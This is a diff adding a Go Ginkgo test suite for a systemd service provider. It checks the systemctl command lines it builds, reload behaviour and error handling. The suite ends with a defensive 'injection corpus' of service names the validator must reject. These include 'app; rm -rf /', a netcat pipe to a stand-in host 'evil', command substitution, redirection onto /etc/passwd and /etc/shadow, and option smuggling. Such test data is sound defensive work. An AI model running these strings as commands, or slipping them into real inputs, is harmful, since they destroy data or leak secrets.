@@ -1,0 +1,243 @@
+package systemd_test
+
+import (
+	"context"
+	"strings"
+
+	. "github.com/onsi/ginkgo/v2"
+	. "github.com/onsi/gomega"
+
+	"github.com/ccm-fleet/ccm/providers/runner"
+	"github.com/ccm-fleet/ccm/providers/systemd"
+	"github.com/ccm-fleet/ccm/resources"
+	"github.com/ccm-fleet/ccm/resources/servicetype"
+)
+
+type operation func(p *systemd.Provider, ctx context.Context, service string) error
+
+var (
+	start   operation = (*systemd.Provider).Start
+	stop    operation = (*systemd.Provider).Stop
+	restart operation = (*systemd.Provider).Restart
+	enable  operation = (*systemd.Provider).Enable
+	disable operation = (*systemd.Provider).Disable
+	status  operation = func(p *systemd.Provider, ctx context.Context, service string) error {
+		_, err := p.Status(ctx, service)
+		return err
+	}
+)
+
+var _ = Describe("Provider", func() {
+	var fake *runner.Fake
+
+	BeforeEach(func() {
+		fake = &runner.Fake{}
+	})
+
+	DescribeTable("Operations run the exact systemctl command, after one daemon-reload",
+		func(op operation, verb string) {
+			fake.Expect(daemonReload, 0, "")
+			fake.Expect(unit(verb, "nginx"), 0, "")
+
+			Expect(op(newProvider(fake), GinkgoT().Context(), "nginx")).To(Succeed())
+			Expect(fake.Verify()).To(Succeed())
+			Expect(argvs(fake)).To(Equal([][]string{
+				{"systemctl", "daemon-reload"},
+				{"systemctl", verb, "--system", "--", "nginx"},
+			}))
+		},
+		Entry("Start: systemctl start --system -- <service>", start, "start"),
+		Entry("Stop: systemctl stop --system -- <service>", stop, "stop"),
+		Entry("Restart: systemctl restart --system -- <service>", restart, "restart"),
+		Entry("Enable: systemctl enable --system -- <service>", enable, "enable"),
+		Entry("Disable: systemctl disable --system -- <service>", disable, "disable"),
+	)
+
+	It("runs Status as is-active then is-enabled", func() {
+		fake.Expect(daemonReload, 0, "")
+		expectFixture(fake, unit("is-active", "nginx"), 0, "is-active/active")
+		expectFixture(fake, unit("is-enabled", "nginx"), 1, "is-enabled/disabled")
+
+		st, err := newProvider(fake).Status(GinkgoT().Context(), "nginx")
+		Expect(err).ToNot(HaveOccurred())
+		Expect(fake.Verify()).To(Succeed())
+		Expect(st.Ensure).To(Equal("running"))
+		Expect(st.Metadata.Enabled).To(BeFalse())
+	})
+
+	It("bounds what it keeps of systemctl's output", func() {
+		fake.Expect(daemonReload, 0, "")
+		fake.Expect(unit("start", "nginx"), 0, "")
+		Expect(newProvider(fake).Start(GinkgoT().Context(), "nginx")).To(Succeed())
+		for _, c := range fake.Calls() {
+			Expect(c.MaxOutput).To(BeNumerically(">", 0))
+			Expect(c.MaxOutput).To(BeNumerically("<=", 64<<10))
+		}
+	})
+
+	Describe("Daemon Reload", func() {
+		It("reloads once per provider instance: two Status calls, one daemon-reload", func() {
+			fake.Expect(daemonReload, 0, "")
+			for range 2 {
+				expectFixture(fake, unit("is-active", "nginx"), 0, "is-active/active")
+				expectFixture(fake, unit("is-enabled", "nginx"), 0, "is-enabled/enabled")
+			}
+			p := newProvider(fake)
+			for range 2 {
+				_, err := p.Status(GinkgoT().Context(), "nginx")
+				Expect(err).ToNot(HaveOccurred())
+			}
+			Expect(fake.Verify()).To(Succeed())
+
+			reloads := 0
+			for _, argv := range argvs(fake) {
+				if strings.Join(argv, " ") == "systemctl daemon-reload" {
+					reloads++
+				}
+			}
+			Expect(reloads).To(Equal(1))
+			Expect(argvs(fake)[0]).To(Equal(daemonReload), "the reload comes before the first operation")
+		})
+
+		It("reloads once across different operations and services", func() {
+			fake.Expect(daemonReload, 0, "")
+			fake.Expect(unit("start", "nginx"), 0, "")
+			fake.Expect(unit("enable", "sshd"), 0, "")
+			p := newProvider(fake)
+			Expect(p.Start(GinkgoT().Context(), "nginx")).To(Succeed())
+			Expect(p.Enable(GinkgoT().Context(), "sshd")).To(Succeed())
+			Expect(fake.Verify()).To(Succeed())
+		})
+
+		It("reloads again for each new provider instance", func() {
+			f := systemd.NewFactory(fake, nil)
+			for range 2 {
+				fake.Expect(daemonReload, 0, "")
+				fake.Expect(unit("stop", "nginx"), 0, "")
+				p, err := f.New()
+				Expect(err).ToNot(HaveOccurred())
+				Expect(p.(*systemd.Provider).Stop(GinkgoT().Context(), "nginx")).To(Succeed())
+			}
+			Expect(fake.Verify()).To(Succeed())
+		})
+
+		It("fails the operation when the reload fails, and tries the reload again next time", func() {
+			expectFixture(fake, daemonReload, 1, "daemon-reload/no-bus")
+			fake.Expect(daemonReload, 0, "")
+			fake.Expect(unit("start", "nginx"), 0, "")
+			p := newProvider(fake)
+
+			err := p.Start(GinkgoT().Context(), "nginx")
+			Expect(err).To(MatchError(systemd.ErrCommandFailed))
+			Expect(err.Error()).To(Equal("systemctl daemon-reload: systemctl failed: exit status 1: " +
+				"System has not been booted with systemd as init system (PID 1). Can't operate.; Failed to connect to bus: Host is down"))
+
+			Expect(p.Start(GinkgoT().Context(), "nginx")).To(Succeed())
+			Expect(fake.Verify()).To(Succeed())
+		})
+	})
+
+	Describe("Error Handling", func() {
+		It("fails an operation that exits non-zero, with systemctl's message", func() {
+			fake.Expect(daemonReload, 0, "")
+			expectFixture(fake, unit("start", "nginx"), 5, "start/not-found")
+
+			err := newProvider(fake).Start(GinkgoT().Context(), "nginx")
+			Expect(err).To(MatchError(systemd.ErrCommandFailed))
+			Expect(err.Error()).To(Equal("systemctl start --system -- nginx: systemctl failed: exit status 5: Failed to start nginx.service: Unit nginx.service not found."))
+			Expect(fake.Verify()).To(Succeed())
+		})
+
+		It("bounds the systemctl message it puts in an error", func() {
+			fake.Expect(daemonReload, 0, "")
+			fake.Add(runner.Expectation{Argv: unit("stop", "nginx"), Result: runner.Result{ExitCode: 1, Stderr: []byte(strings.Repeat("x", 10000))}})
+
+			err := newProvider(fake).Stop(GinkgoT().Context(), "nginx")
+			Expect(err).To(MatchError(systemd.ErrCommandFailed))
+			Expect(len(err.Error())).To(BeNumerically("<", 700))
+		})
+
+		DescribeTable("propagates the runner's error",
+			func(op operation, argv []string) {
+				fake.Expect(daemonReload, 0, "")
+				fake.Add(runner.Expectation{Argv: argv, Err: runner.ErrNotFound})
+
+				err := op(newProvider(fake), GinkgoT().Context(), "nginx")
+				Expect(err).To(MatchError(runner.ErrNotFound))
+				Expect(err.Error()).To(HavePrefix(strings.Join(argv, " ") + ": "))
+				Expect(fake.Verify()).To(Succeed())
+			},
+			Entry("from Status", status, unit("is-active", "nginx")),
+			Entry("from Start", start, unit("start", "nginx")),
+			Entry("from Disable", disable, unit("disable", "nginx")),
+		)
+
+		It("propagates the runner's error from is-enabled", func() {
+			fake.Expect(daemonReload, 0, "")
+			expectFixture(fake, unit("is-active", "nginx"), 0, "is-active/active")
+			fake.Add(runner.Expectation{Argv: unit("is-enabled", "nginx"), Err: runner.ErrTimeout})
+
+			_, err := newProvider(fake).Status(GinkgoT().Context(), "nginx")
+			Expect(err).To(MatchError(runner.ErrTimeout))
+			Expect(fake.Verify()).To(Succeed())
+		})
+
+		It("honours a cancelled context", func() {
+			ctx, cancel := context.WithCancel(GinkgoT().Context())
+			cancel()
+
+			err := newProvider(fake).Start(ctx, "nginx")
+			Expect(err).To(MatchError(context.Canceled))
+		})
+	})
+
+	// Names that could turn a systemctl call into something else. The
+	// service type rejects every one, and the provider refuses them too
+	// before running anything: not even daemon-reload.
+	DescribeTable("Service Name Validation: injection corpus",
+		func(name string) {
+			props := &servicetype.Properties{CommonProperties: resources.CommonProperties{Name: name, Ensure: "running"}}
+			Expect(props.Validate()).To(MatchError(resources.ErrInvalid))
+
+			p := newProvider(fake)
+			ctx := GinkgoT().Context()
+			for _, op := range []operation{status, start, stop, restart, enable, disable} {
+				Expect(op(p, ctx, name)).To(MatchError(resources.ErrInvalid))
+			}
+			Expect(fake.Calls()).To(BeEmpty())
+			Expect(fake.Verify()).To(Succeed())
+		},
+		Entry("empty", ""),
+		Entry("command separator", "app; rm -rf /"),
+		Entry("pipe", "app | nc evil 1"),
+		Entry("and-list", "app && reboot"),
+		Entry("background", "app & reboot"),
+		Entry("command substitution", "$(reboot)"),
+		Entry("backticks", "`reboot`"),
+		Entry("variable", "$HOME"),
+		Entry("redirection", "app > /etc/passwd"),
+		Entry("input redirection", "app</etc/shadow"),
+		Entry("glob", "*"),
+		Entry("brace expansion", "{a,b}"),
+		Entry("quote", `app"`),
+		Entry("single quote", "app'"),
+		Entry("backslash escape", `app\x2dx`),
+		Entry("option: --now", "--now"),
+		Entry("option: -H host", "-Hhost"),
+		Entry("option: --root", "--root=/tmp"),
+		Entry("option: --user", "--user"),
+		Entry("bare dash", "-"),
+		Entry("path traversal", "../../etc/passwd"),
+		Entry("absolute path", "/etc/systemd/system/evil.service"),
+		Entry("template instance (@ is not allowed)", "app@instance"),
+		Entry("newline", "nginx\nreboot"),
+		Entry("carriage return", "nginx\rreboot"),
+		Entry("tab", "nginx\treboot"),
+		Entry("space", "nginx reboot"),
+		Entry("NUL byte", "nginx\x00reboot"),
+		Entry("non-ASCII lookalike", "ngіnx"),
+		Entry("zero-width joiner", "ng\u200dinx"),
+		Entry("right-to-left override", "nginx\u202e"),
+		Entry("over 256 bytes", strings.Repeat("a", 257)),
+	)
+})
